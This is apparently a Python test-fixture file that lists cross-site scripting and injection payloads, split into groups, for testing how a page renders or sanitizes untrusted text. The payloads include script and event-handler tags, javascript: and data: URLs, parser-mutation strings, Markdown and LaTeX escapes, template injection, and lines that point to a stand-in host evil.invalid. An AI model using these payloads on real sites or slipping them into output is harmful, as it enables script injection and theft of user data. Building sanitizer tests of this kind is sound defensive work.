"""Texts that want to be run: well-known vectors, one for each way out of a place in a page.

Each calls `pwned()` or leaves an element or attribute with the mark "pwn". A page may show them, as text.
"""

from __future__ import annotations

TEXTS = [
    # Elements that run something by themselves.
    "<script>pwned()</script>",
    "<script src=https://evil.invalid/pwn.js></script>",
    '<script type="module">pwned()</script>',
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<ScRiPt\n>pwned()</sCrIpT\t\n bar>",
    "<img src=x onerror=pwned() id=pwn>",
    '<img/src="x"/onerror="pwned()"/id="pwn">',
    "<img src=x:x onerror\x0c=pwned() id=pwn>",
    "<image src=x onerror=pwned() id=pwn>",
    "<svg onload=pwned() id=pwn>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s id=pwn>",
    "<svg><script>pwned()</script></svg>",
    "<svg><a xlink:href=javascript:pwned() id=pwn><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2ZyBpZD0icHduIi8+#pwn id=pwn></svg>",
    "<body onload=pwned() id=pwn>",
    "<video autoplay onloadstart=pwned() src=x id=pwn><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned() id=pwn></audio>",
    "<details open ontoggle=pwned() id=pwn>x</details>",
    "<input autofocus onfocus=pwned() id=pwn>",
    "<marquee onstart=pwned() id=pwn>x</marquee>",
    "<div style=animation-name:x onanimationstart=pwned() id=pwn>x</div>",
    "<iframe srcdoc='<script>parent.pwned()</script>' id=pwn></iframe>",
    "<iframe src=javascript:parent.pwned() id=pwn></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg== id=pwn></object>",
    "<embed src=javascript:pwned() id=pwn>",
    "<template><img src=x onerror=pwned() id=pwn></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned() id=pwn>'>",
    # Elements that change what the page is.
    "<base href=https://evil.invalid/pwn/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/pwn' id=pwn>",
    "<link rel=stylesheet href=https://evil.invalid/pwn.css id=pwn>",
    "<style id=pwn>body{display:none}</style>",
    "<form action=https://evil.invalid/pwn id=pwn><button>Sign in</button></form>",
    "<button form=pwn formaction=javascript:pwned() id=pwn>x</button>",
    "<div hx-get=/ hx-trigger=load hx-on::load=pwned() id=pwn>x</div>",
    "<a data-hx-get=/ data-hx-on:click=pwned() id=pwn href=#>x</a>",
    "<plaintext id=pwn>",
    # Ways out of where a text stands.
    '"><img src=x onerror=pwned() id=pwn>',
    "'><img src=x onerror=pwned() id=pwn>",
    '" autofocus onfocus=pwned() id=pwn x="',
    "' autofocus onfocus=pwned() id=pwn x='",
    "</title></textarea></option></select></style></template><img src=x onerror=pwned() id=pwn>",
    "</script><script>pwned()</script>",
    '"}</script><script>pwned()</script>{"',
    "--><img src=x onerror=pwned() id=pwn><!--",
    "]]><img src=x onerror=pwned() id=pwn>",
    "<!--><img src=x onerror=pwned() id=pwn>-->",
    "&lt;img src=x onerror=pwned() id=pwn&gt;",
    "&amp;lt;img src=x onerror=pwned() id=pwn&amp;gt;",
    "\\u003cimg src=x onerror=pwned() id=pwn\\u003e",
    "＜img src=x onerror=pwned() id=pwn＞",
    "%3Cimg%20src=x%20onerror=pwned()%20id=pwn%3E",
    "{{constructor.constructor('pwned()')()}} ${pwned()} {% debug %} #{pwned()}",
    "=HYPERLINK(\"https://evil.invalid/pwn\",\"x\")",
    # Markdown and LaTeX.
    "[x](javascript:pwned())",
    "[x](java\tscript:pwned())",
    "[x](&#106;avascript:pwned())",
    "[x](JaVaScRiPt:pwned%28%29 'pwn')",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[x](vbscript:pwned())",
    "![x](https://evil.invalid/pwn.png)",
    '![x](x"onerror="pwned\\(\\)"id="pwn)',
    "<javascript:pwned()>",
    "[x]: javascript:pwned()\n\n[x]",
    '[x](https://a.example/"onmouseover="pwned() "id=\\"pwn")',
    "@[x](person:00000000-0000-0000-0000-000000000000\" onclick=\"pwned())",
    "```\"><img src=x onerror=pwned() id=pwn>\nx\n```",
    "| a |\n|---|\n| <img src=x onerror=pwned() id=pwn> |",
    "$\\href{javascript:pwned()}{x}$",
    "$\\text{<img src=x onerror=pwned() id=pwn>}$",
    "$\\class{x\" onclick=\"pwned()}{y}$",
    "$$\\begin{matrix}</math><img src=x onerror=pwned() id=pwn>\\end{matrix}$$",
    # What parsers make of nested languages (mutation).
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned() id=pwn&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=pwned() id=pwn>'>",
    "<math><annotation-xml encoding=text/html><script>pwned()</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned() id=pwn>",
    "<a\x00href=javascript:pwned() id=pwn>x</a>",
]  # fmt: skip
ADDRESSES = [
    "javascript:pwned()",
    "JaVaScRiPt:pwned()//https://",
    " \x01javascript:pwned()",
    "java\nscript:pwned()",
    "data:text/html,<script>parent.pwned()</script>",
    "vbscript:pwned()",
    'https://elsewhere.invalid/"onerror="pwned()"id="pwn',
    "https://elsewhere.invalid/'onload='pwned()'id='pwn",
    "//elsewhere.invalid/><img src=x onerror=pwned() id=pwn>",
]
GROUPS = 4


def group(number: int) -> list[str]:
    """Every text is in one of the groups."""
    return TEXTS[number::GROUPS]
